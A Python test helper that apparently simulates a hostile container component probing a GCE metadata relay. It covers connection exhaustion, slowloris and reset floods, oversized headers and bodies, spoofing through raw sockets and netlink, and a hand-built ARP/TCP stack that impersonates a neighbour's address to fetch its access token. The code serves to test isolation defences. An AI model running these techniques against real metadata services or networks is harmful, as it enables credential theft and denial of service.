"""What a hostile component can do from inside its container: run as `python3 -c THIS mode arguments`.

Every mode is bounded in count and time and speaks to the relay only, or to a server that its test made. Each prints
one JSON object, but `plain`, which is such a server.
"""

import asyncio
import json
import os
import resource
import socket
import struct
import sys
import time

HOST = os.environ.get("GCE_METADATA_HOST", "127.0.0.1")
TOKEN = "/computeMetadata/v1/instance/service-accounts/default/token"
REQUEST = (
    f"GET {TOKEN} HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n\r\n"
).encode()


def say(**facts):
    print(json.dumps(facts), flush=True)


def connect():
    return socket.create_connection((HOST, 80), timeout=10)


def read_reply(stream):
    """Status and length of the body; the body is not kept."""
    data = b""
    while b"\r\n\r\n" not in data:
        piece = stream.recv(65536)
        if not piece:
            raise ConnectionError("closed without an answer")
        data += piece
    head, body = data.split(b"\r\n\r\n", 1)
    status = int(head.split()[1])
    length = next((int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")), 0)
    while len(body) < length:
        piece = stream.recv(65536)
        if not piece:
            raise ConnectionError("closed in the middle")
        body += piece
    return status, len(body)


def victim(seconds):
    """Asks for its token on new connections, as most clients do, and says how long that took."""
    took, failed, end = [], [], time.monotonic() + float(seconds)
    while time.monotonic() < end:
        start = time.monotonic()
        try:
            with connect() as stream:
                stream.sendall(REQUEST)
                status, _ = read_reply(stream)
            assert status == 200, status
        except (OSError, AssertionError) as error:
            failed.append(f"{type(error).__name__}: {error}")
        took.append((time.monotonic() - start) * 1000)
        time.sleep(0.01)
    took.sort()
    say(asked=len(took), failed=failed, p50=round(took[len(took) // 2], 2), p99=round(took[len(took) * 99 // 100], 2),
        max=round(took[-1], 2))


def connections(count, seconds):
    """Holds as many of `count` connections as it gets, each with a request begun and never finished, and
    opens those that were refused again until the time is over."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 20_000), hard))
    opened = ended = held = most = 0
    end = time.monotonic() + float(seconds)
    gate = asyncio.Semaphore(500)

    async def one():
        nonlocal opened, ended, held, most
        while time.monotonic() < end:
            try:
                async with gate:
                    reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, 80), 5)
                opened += 1
                writer.write(REQUEST[:40])
                held += 1
                most = max(most, held)
                try:
                    await asyncio.wait_for(reader.read(1), max(0.1, end - time.monotonic()))
                finally:
                    held -= 1
                    writer.close()
                ended += 1
            except (OSError, asyncio.TimeoutError):
                pass
            await asyncio.sleep(0.5)

    async def all_of_them():
        tasks = [asyncio.create_task(one()) for _ in range(int(count))]
        await asyncio.sleep(1.5)
        alive = 0
        # What the relay really keeps: those that are not ended after they had time to be.
        for _ in range(5):
            await asyncio.sleep(0.2)
            alive = max(alive, held)
        await asyncio.gather(*tasks)
        return alive

    asyncio.run(all_of_them())
    say(opened=opened, ended_by_relay=ended, most=most)


def loris(count, seconds):
    """Slow clients: one byte of a head every half second on each of `count` connections."""
    streams, refused = [], 0
    for _ in range(int(count)):
        try:
            streams.append(connect())
        except OSError:
            refused += 1
    time.sleep(0.3)
    kept = []
    for stream in streams:
        stream.setblocking(False)
        try:
            stream.send(REQUEST[:1])
            if stream.recv(1) == b"":
                refused += 1
                continue
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            continue
        kept.append(stream)
    end, at = time.monotonic() + float(seconds), 1
    while time.monotonic() < end:
        for stream in kept:
            try:
                stream.send(REQUEST[at:at + 1])
            except OSError:
                pass
        at += 1
        time.sleep(0.5)
    say(kept=len(kept), refused=refused)


def resets(count, together):
    """Asks and hangs up before the answer, which becomes a reset stream in the tunnel."""
    done = refused = 0
    for _ in range(int(count) // int(together)):
        streams = []
        for _ in range(int(together)):
            try:
                stream = connect()
            except OSError:
                refused += 1
                continue
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            streams.append(stream)
        for stream in streams:
            try:
                stream.sendall(REQUEST)
                done += 1
            except OSError:
                refused += 1
        for stream in streams:
            stream.close()
    say(done=done, refused=refused)


def heads(*_):
    """Heads of every size around the limits of relay and tunnel, in few and in many fields."""
    answers = {}
    for size in [*range(8_000, 20_000, 250), 60_000, 1_000_000]:
        for fields in (1, 60, 95, 150):
            lines = [f"x{n}: ".encode() + b"a" * max(1, size // fields - 7) for n in range(fields)]
            head = b"GET / HTTP/1.1\r\nHost: metadata\r\nConnection: close\r\n" + b"\r\n".join(lines) + b"\r\n\r\n"
            try:
                with connect() as stream:
                    stream.sendall(head)
                    status = read_reply(stream)[0]
            except OSError:
                status = "closed"
            answers[status] = answers.get(status, 0) + 1
    say(**{str(status): count for status, count in answers.items()})


def bodies(*_):
    """Bodies without end, on a protocol that has none."""
    sent, outcomes = 0, []
    for framing in (b"Content-Length: 99999999999\r\n", b"Transfer-Encoding: chunked\r\n"):
        with connect() as stream:
            stream.settimeout(5)
            try:
                stream.sendall(b"POST " + TOKEN.encode() + b" HTTP/1.1\r\nHost: metadata\r\nMetadata-Flavor: Google\r\n" + framing + b"\r\n")
                for _ in range(256):
                    chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
                    stream.sendall(chunk)
                    sent += len(chunk)
                outcomes.append("all taken")
            except OSError as error:
                outcomes.append(type(error).__name__)
    say(sent=sent, outcomes=outcomes)


def waits(count, seconds):
    """Waits for a change that never comes, on as many connections as it gets."""
    streams = []
    ask = REQUEST.replace(TOKEN.encode(), b"/computeMetadata/v1/instance/?recursive=true&wait_for_change=true")
    for _ in range(int(count)):
        try:
            stream = connect()
            stream.sendall(ask)
            streams.append(stream)
        except OSError:
            pass
    time.sleep(float(seconds))
    say(opened=len(streams))


def raw(*requests):
    """Sends each argument as it is and prints what came back, less what a token is."""
    replies = []
    for request in requests:
        with connect() as stream:
            stream.settimeout(5)
            stream.sendall(request.encode("latin-1").decode("unicode_escape").encode("latin-1"))
            data = b""
            try:
                while piece := stream.recv(65536):
                    data += piece
            except OSError as error:
                data += type(error).__name__.encode()
            replies.append(data.decode("latin-1"))
    say(replies=replies)


def spoof(neighbour):
    """Every way to speak from another's address that needs no cooperation of the kernel's owner."""
    outcomes = {}

    def attempt(name, deed):
        try:
            deed()
            outcomes[name] = "done"
        except OSError as error:
            outcomes[name] = error.strerror

    def bound(level, option):
        with socket.socket() as stream:
            stream.settimeout(2)
            if option is not None:
                stream.setsockopt(level, option, 1)
            stream.bind((neighbour, 0))
            stream.connect((HOST, 80))

    attempt("packet socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)).close())
    attempt("raw ip socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close())
    attempt("raw icmp socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
    attempt("bind", lambda: bound(0, None))
    attempt("bind freebind", lambda: bound(socket.SOL_IP, 15))
    attempt("bind transparent", lambda: bound(socket.SOL_IP, 19))
    attempt("add the address", lambda: netlink_address(neighbour))
    attempt("own namespace", lambda: namespace())
    say(**outcomes)


def netlink_address(address):
    """RTM_NEWADDR for `address` on the last interface."""
    index = max(number for number, _ in socket.if_nameindex())
    message = struct.pack("=BBBBI", socket.AF_INET, 32, 0, 0, index)
    message += struct.pack("=HH4s", 8, 2, socket.inet_aton(address))
    header = struct.pack("=IHHII", 16 + len(message), 20, 0x601 | 4, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.send(header + message)
        error = -struct.unpack("=i", route.recv(4096)[16:20])[0]
    if error:
        raise OSError(error, os.strerror(error))


def namespace():
    """A user namespace gives capabilities, but only over namespaces made in it."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()


def plain(interface=""):
    """What is attacked where nothing of ours is: a server that tells everybody the token of the address that asks. It
    may hear one interface only."""
    from http.server import BaseHTTPRequestHandler
    from socketserver import ThreadingTCPServer  # the one of http.server looks its own name up

    class Plain(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self):
            body = json.dumps({"access_token": "of " + self.client_address[0]}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *_):
            pass

    ThreadingTCPServer.allow_reuse_address = ThreadingTCPServer.daemon_threads = True
    for _ in range(50):
        try:
            server = ThreadingTCPServer(("0.0.0.0", 80), Plain)
            break
        except OSError:  # that of the one before, which is on its way out
            time.sleep(0.1)
    if interface:
        server.socket.setsockopt(socket.SOL_SOCKET, 25, interface.encode())  # SO_BINDTODEVICE
    print("serving", flush=True)
    server.serve_forever()


def interface_towards(server):
    """Name and address of the interface through which `server` is reached."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((server, 9))
        own = probe.getsockname()[0]
        for _, name in socket.if_nameindex():
            try:
                import fcntl
                found = fcntl.ioctl(probe, 0x8915, struct.pack("256s", name.encode()))  # SIOCGIFADDR
            except OSError:
                continue
            if socket.inet_ntoa(found[20:24]) == own:
                return name, own
        # A link-local address is not the first one of its interface.
        others = [name for _, name in socket.if_nameindex() if name != "lo"]
        if len(others) == 1:
            return others[0], own
    raise OSError(19, "no interface")


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Forged:
    """A TCP connection made of frames that we write ourselves: any address, a hardware address of our own making.

    The kernel here does not take part: frames for a hardware address that is not its own are none of its business.
    """

    MAC = bytes.fromhex("02666f726765")

    def __init__(self, name, source, server, port=None, gateway=None):
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.bind((name, 0))
        self.wire.settimeout(0.1)
        self.source, self.server = socket.inet_aton(source), socket.inet_aton(server)
        self.gateway = socket.inet_aton(gateway) if gateway else self.server
        self.port = port or 20_000 + int.from_bytes(os.urandom(2), "big") % 40_000
        self.sent = self.seen = 0
        self.peer = None

    def arp(self, operation, mac, target):
        body = struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + self.MAC + self.source + mac + target
        self.wire.send((mac if operation == 2 else b"\xff" * 6) + self.MAC + b"\x08\x06" + body)

    def frame(self, flags, data=b""):
        tcp = struct.pack("!HHIIBBHHH", self.port, 80, self.sent, self.seen, 0x50, flags, 64_000, 0, 0)
        pseudo = self.source + self.server + struct.pack("!BBH", 0, 6, len(tcp) + len(data))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp + data)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), 7, 0, 64, 6, 0) + self.source + self.server
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self.wire.send(self.peer + self.MAC + b"\x08\x00" + ip + tcp + data)

    def segments(self, seconds):
        """Flags, number and data of what comes back; claims our address whenever somebody asks for it."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                frame = self.wire.recv(65535)
            except socket.timeout:
                continue
            kind, body = frame[12:14], frame[14:]
            if kind == b"\x08\x06":
                operation, asker, who, target = body[7], body[8:14], body[14:18], body[24:28]
                if operation == 1 and target == self.source and asker != self.MAC:
                    self.arp(2, asker, who)
                if operation == 2 and who == self.gateway:
                    self.peer = asker
                    yield 0, 0, b""
            elif kind == b"\x08\x00" and body[9] == 6 and body[12:16] == self.server and body[16:20] == self.source:
                tcp = body[(body[0] & 15) * 4:struct.unpack("!H", body[2:4])[0]]
                if struct.unpack("!HH", tcp[:4]) == (80, self.port):
                    yield tcp[13], struct.unpack("!I", tcp[4:8])[0], tcp[(tcp[12] >> 4) * 4:]

    def fetch(self, request):
        """The answer, or as much as came of it; who does not even answer is said."""
        for _ in range(3):
            self.arp(1, b"\0" * 6, self.gateway)
            if self.peer or next(self.segments(0.3), None):
                break
        if not self.peer:
            return "nobody is there"
        for _ in range(3):
            self.port += 1
            self.sent, self.seen = int.from_bytes(os.urandom(3), "big"), 0
            self.frame(0x02)
            answer = self.conversation(request)
            if answer is not None:
                return answer
        return "no connection"

    def conversation(self, request):
        data = None
        for flags, number, piece in self.segments(1):
            if flags & 0x04:
                return data
            if flags & 0x12 == 0x12 and data is None:
                self.sent, self.seen, data = self.sent + 1, number + 1, ""
                self.frame(0x18, request)
                self.sent += len(request)
            elif data is not None and piece and number == self.seen:
                data, self.seen = data + piece.decode("latin-1"), self.seen + len(piece)
                self.frame(0x10)
            if flags & 0x01 and data is not None:
                return data
        return data


def exchange(*pairs):
    """A whole HTTP exchange as each `ADDRESS[@SERVER]`, from frames of our own."""
    replies = {}
    for pair in pairs:
        source, _, server = pair.partition("@")
        server = server or HOST
        try:
            name, _ = interface_towards(server)
            request = REQUEST.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
            replies[pair] = Forged(name, source, server).fetch(request)
        except OSError as error:
            replies[pair] = error.strerror
    say(**replies)


def through(server):
    """Asks at an address that is on another network, through the interface that leads to the relay."""
    outcomes = {}
    name, own = interface_towards(HOST)
    try:
        with socket.socket() as stream:
            stream.settimeout(3)
            stream.setsockopt(socket.SOL_SOCKET, 25, name.encode())  # SO_BINDTODEVICE
            stream.connect((server, 80))
            stream.sendall(REQUEST.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
            outcomes["bound"] = ""
            while piece := stream.recv(65536):
                outcomes["bound"] += piece.decode("latin-1")
    except OSError as error:
        outcomes["bound"] = error.strerror or str(error)
    try:
        # To the hardware address of the relay, whatever its tables say.
        request = REQUEST.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
        outcomes["routed"] = Forged(name, own, server, gateway=HOST).fetch(request)
    except OSError as error:
        outcomes["routed"] = error.strerror
    say(**outcomes)


def resolve(name, count):
    """Where `count` look-ups of `name` lead."""
    found = {}
    for _ in range(int(count)):
        try:
            at = socket.gethostbyname(name)
        except OSError as error:
            at = error.strerror
        found[at] = found.get(at, 0) + 1
    say(**found)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
